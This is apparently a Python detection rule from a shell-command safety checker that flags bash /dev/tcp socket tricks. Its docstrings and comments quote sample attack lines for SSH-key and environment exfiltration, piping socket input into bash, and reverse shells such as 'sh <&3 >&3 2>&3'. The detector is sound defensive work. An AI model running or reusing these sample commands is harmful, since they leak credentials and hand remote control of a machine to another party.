"""Effect: secrets written to, or code read from, a network socket that bash opened on a file descriptor.

``exec 3<>/dev/tcp/HOST/PORT`` connects; after it every ``>&3`` writes to that machine and every ``<&3``
reads from it.  The connection is opened on one command and used on another, so it is read across the
line: what a later command writes to the descriptor leaves (``cat ~/.ssh/id_rsa >&3``, ``printenv >&3``),
and what is read from it and piped into a shell runs (``cat <&3 | bash``).  A group or loop redirected to
``/dev/tcp`` as a whole (``{ cat KEY; } > /dev/tcp/H/P``) sends what its commands print.
"""
from __future__ import annotations

import re
from typing import Optional

from aish.safety.rules.common import HIGH, MEDIUM
from aish.safety.rules.exfil import _in_substitutions, _segment_reads_secret, _worse
from aish.safety.rules.secret_producers import prints_secret
from aish.safety.lazy_regex import lazy

_SOCKET = lazy(r"^/dev/(tcp|udp)/[^/]+/\w+$")
_OPENS = lazy(r"^(\d+|\{\w+\})(<>|>|<|>>)$")  # exec 3<>/dev/tcp/…, exec {s}<>/dev/udp/… (bash picks the fd)
_RUNNERS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "busybox", "python", "python3", "perl", "ruby",
                      "node", "php", "source", "."})
_GROUP_REACH = 8  # commands before a bare redirect read as the group's


def _prints_secret(seg) -> str:
    """What this command prints, when secret: ``echo``'s words are text, not files (``echo GET / >&3``)."""
    if seg.words and seg.words[0].text in ("echo", "printf", "print"):
        return _worse(prints_secret([w.text for w in seg.words]), _in_substitutions(seg.words[1:]))
    return _segment_reads_secret(seg)


def _socket_fds(segs: list) -> set:
    fds = set()
    for seg in segs:
        if len(seg.words) >= 3 and seg.words[0].text == "ztcp" and not seg.words[1].text.startswith("-"):
            fds.update({"$REPLY", "${REPLY}"})  # zsh's `ztcp HOST PORT` leaves the connection's fd in $REPLY
        if seg.words and seg.words[0].text == "exec":
            named = [w.text for w in seg.words[1:] if re.fullmatch(r"\{\w+\}", w.text)]
            for red in seg.redirects:
                m = _OPENS.match((named[0] if named and red.op[:1] in "<>" else "") + red.op)
                if m and red.target is not None and _SOCKET.match(red.target.text):
                    fd = m.group(1)
                    fds.update({"$" + fd[1:-1], "${" + fd[1:-1] + "}"} if fd.startswith("{") else {fd})
    return fds


def _writes_to(seg, fds: set) -> bool:
    for red in seg.redirects:
        target = red.target.text if red.target is not None else ""
        if red.op.endswith(">&") and target in fds or red.op.lstrip("0123456789&") in (">", ">>", ">|") and \
                (_SOCKET.match(target) or target.startswith("/dev/fd/") and target[8:] in fds):
            return True
    return False


def _reads_from(seg, fds: set) -> bool:
    return any(red.op.endswith("<&") and red.target is not None and red.target.text in fds or
               red.op.endswith("<") and red.target is not None and _SOCKET.match(red.target.text)
               for red in seg.redirects) or any(w.text in {f"/dev/fd/{fd}" for fd in fds} for w in seg.words[1:])


def _stdin_from(seg, fds: set) -> bool:
    """The command's input is the socket: ``<&3``, ``0<&196``, zsh's ``0>&$REPLY`` (a descriptor duplicated)."""
    return any(red.target is not None and red.target.text in fds and
               (red.op.endswith("<&") or red.op in ("0>&", "0<>&")) for red in seg.redirects)


def _shell_on_socket(seg, fds: set, read_before: bool) -> bool:
    """A reverse shell through a descriptor: ``sh <&3 >&3 2>&3``, ``exec bash 0<&196``, or a command read from the
    socket run with its output sent back (``cat <&5 | while read line; do $line >&5; done``, ``eval "$c" >&5``)."""
    words = [w.text for w in seg.words]
    if words[:1] == ["exec"]:
        words = words[1:]
    if not words:
        return False
    name = words[0].rsplit("/", 1)[-1]
    if name in _RUNNERS and name not in ("source", ".") and _stdin_from(seg, fds):
        return True
    runs_read = name.startswith("$") or name == "eval" and any("$" in w for w in words[1:])  # `eval "$c" >&5`
    return runs_read and read_before and _writes_to(seg, fds)


def rule_socket_fds(segs: list) -> Optional[tuple]:
    """Secrets written to a socket descriptor, or a group's output redirected to /dev/tcp; code read from one run."""
    if not any(red.target is not None and ("/dev/" in red.target.text or red.op.endswith("&"))
               for seg in segs for red in seg.redirects):  # `>&$s`: a descriptor in a variable is `>&` too
        return None  # no socket and no descriptor on the line: most lines leave here
    fds = _socket_fds(segs)
    best: Optional[tuple] = None
    read_before = False
    for k, seg in enumerate(segs):
        if fds and _shell_on_socket(seg, fds, read_before):
            return HIGH, "a shell takes its commands from a network socket (/dev/tcp) and answers into it: " \
                         "whoever is at the other end runs commands as you"
        read_before = read_before or bool(fds) and _reads_from(seg, fds)
        if seg.words and seg.words[0].text == "exec" or not _writes_to(seg, fds):
            if fds and _reads_from(seg, fds) and k + 1 < len(segs) and segs[k + 1].link in ("|", "|&") and \
                    segs[k + 1].words and segs[k + 1].words[0].text.rsplit("/", 1)[-1] in _RUNNERS:
                return HIGH, "runs code read from a network socket (/dev/tcp): whatever the other end sends"
            continue
        if seg.words:
            found = _prints_secret(seg) if fds else ""  # a plain `> /dev/tcp/…` is exfil's
        else:  # `{ …; } > /dev/tcp/…`: the group's commands came before
            found = ""
            for before in segs[max(0, k - _GROUP_REACH):k]:
                if before.words and before.words[0].text != "exec":
                    found = _worse(found, _prints_secret(before))
        if found:
            what = "keys or credentials" if found == "high" else "the environment or history"
            best = (HIGH if found == "high" else MEDIUM, f"sends {what} to another machine over a /dev/tcp socket")
            if found == "high":
                return best
    return best
